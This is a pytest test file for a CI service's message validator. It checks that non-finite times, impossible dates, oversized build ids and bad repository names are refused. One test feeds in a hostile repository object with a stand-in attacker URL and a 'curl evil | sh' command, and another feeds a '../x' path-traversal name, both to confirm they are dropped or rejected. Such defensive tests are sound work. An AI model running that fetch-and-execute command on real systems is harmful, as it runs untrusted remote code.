"""The checks of what runners and the observer send, called directly as the views call them: every
number the database or a page could not hold is refused, whoever calls."""

import math

import pytest

from appliance.ci import protocol

SHA = "a" * 40


@pytest.mark.parametrize("seconds", [math.inf, -math.inf, math.nan])
def test_a_command_time_that_is_not_finite_is_refused(seconds):
    with pytest.raises(protocol.ProtocolError, match="command_seconds"):
        protocol.result({"runner": "r1", "status": "passed", "command_seconds": seconds})


@pytest.mark.parametrize("when", [math.inf, math.nan, 1e20, -1.0, 253_402_300_800])
def test_a_commit_time_outside_the_years_1970_to_9999_is_refused(when):
    with pytest.raises(protocol.ProtocolError, match=r"commits\[0\].committed_at"):
        protocol.commits({"repo": "app", "commits": [{"sha": SHA, "committed_at": when}]})


def test_commits_name_a_repository_and_nothing_else_about_it():
    commit = {"sha": SHA, "committed_at": 253_402_300_799}
    assert protocol.commits({"repo": "app", "commits": [commit]})[0] == "app"
    old_form = {"name": "app", "url": "http://evil.example/x.git", "command": "curl evil | sh"}
    assert protocol.commits({"repo": old_form, "commits": []}) == ("app", [])
    with pytest.raises(protocol.ProtocolError, match=r"repo '\.\./x'"):
        protocol.commits({"repo": "../x", "commits": []})


@pytest.mark.parametrize(
    "held", [{"build": 2**63, "attempt": 1}, {"build": 1, "attempt": 2**63}, {"build": 0, "attempt": 1}]
)
def test_a_held_build_must_be_an_id_the_database_can_hold(held):
    with pytest.raises(protocol.ProtocolError, match="builds"):
        protocol.held_builds({"builds": [held]})
